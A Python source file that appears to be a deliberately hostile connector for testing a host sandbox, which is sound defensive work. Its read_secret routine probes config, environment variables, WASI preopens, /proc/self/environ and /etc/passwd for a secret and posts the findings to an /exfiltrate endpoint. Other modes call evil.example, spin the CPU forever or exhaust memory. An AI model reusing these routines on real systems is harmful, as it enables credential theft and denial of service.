"""A hostile connector in Python for the host's sandbox tests. The
``attack`` config value picks what it tries; each attempt must fail
without harming the host or the next run."""

from __future__ import annotations

import os
import sys

from componentize_py_types import Err

from lockgate_connector import Connector, Unreachable, config, http, log

SECRET_KEY = "api-key"


def _attempt(what, call):
    """What one door gave: its value, or the error it raised."""
    try:
        return {"door": what, "got": call()}
    except BaseException as e:  # noqa: BLE001 - every refusal is a result here
        return {"door": what, "error": f"{type(e).__name__}: {e}"}


def _read(path):
    with open(path, "rb") as f:
        return f.read(4096).decode("utf-8", errors="replace")


def _wasi_environment():
    # The raw WASI doors, past what Python's os module took at start.
    from wit_world.imports import environment

    return {"env": environment.get_environment(), "args": environment.get_arguments()}


def _wasi_preopens():
    from wit_world.imports import preopens

    return [name for _, name in preopens.get_directories()]


def _sent_request_headers(target):
    # The headers of the request as the connector hands it to the host,
    # which adds the credential on its side, after the connector's last
    # look; and what the partner answered.
    from wit_world.imports import outgoing_handler, wasi_http_types as t

    fields = t.Fields.from_list([("x-probe", b"1")])
    request = t.OutgoingRequest(fields)
    request.set_method(t.Method_Get())
    request.set_scheme(t.Scheme_Http())
    request.set_authority(target)
    request.set_path_with_query("/api/v1/account")
    with request.headers() as before:
        seen = [(k, v.decode()) for k, v in before.entries()]
    body = request.body()
    future = outgoing_handler.handle(request, None)
    t.OutgoingBody.finish(body, None)
    while (result := future.get()) is None:
        with future.subscribe() as ready:
            ready.block()
    future.__exit__(None, None, None)
    answer = result.value
    if isinstance(answer, Err):
        return {"headers": seen, "error": repr(answer.value)}
    with answer.value as response:
        return {"headers": seen, "status": response.status()}


def read_secret(target):
    """Tries every door Python has to the secret, then sends whatever was
    found to the (granted) partner."""
    found = [
        _attempt("config.get", lambda: config.get(SECRET_KEY)),
        _attempt("config.all", lambda: config.all()),
        _attempt("os.environ", lambda: dict(os.environ)),
        _attempt("os.getenv", lambda: os.getenv("API_KEY") or os.getenv(SECRET_KEY)),
        _attempt("sys.argv", lambda: list(sys.argv)),
        _attempt("wasi environment", _wasi_environment),
        _attempt("wasi preopens", _wasi_preopens),
        _attempt("listdir /", lambda: os.listdir("/")),
        _attempt("listdir .", lambda: os.listdir(".")),
        _attempt("/proc/self/environ", lambda: _read("/proc/self/environ")),
        _attempt("/etc/passwd", lambda: _read("/etc/passwd")),
        _attempt("request headers", lambda: _sent_request_headers(target)),
    ]
    res = http.post(f"http://{target}/exfiltrate", json={"get": config.get(SECRET_KEY), "found": found})
    log.info(f"exfiltration answered {res.status}")


class Hostile(Connector):
    def sync(self, trigger):
        attack = config.get("attack") or ""
        target = config.require("target")
        if attack == "none":
            return
        if attack == "loop":
            n = 0
            while True:
                n += 1
        if attack == "memory":
            hoard = []
            while True:
                hoard.append(bytearray(1 << 20))
        if attack == "ungranted-host":
            try:
                http.get("https://evil.example/steal")
            except http.RequestDenied as e:
                # What the SDK tells the connector, for the tests to check.
                log.warn(f"sdk: {e}")
                raise Unreachable(str(e)) from None
            raise Unreachable("the request to https://evil.example got through")
        if attack == "read-secret":
            read_secret(target)
            return
        raise config.ConfigError("attack", f"unknown attack {attack}")
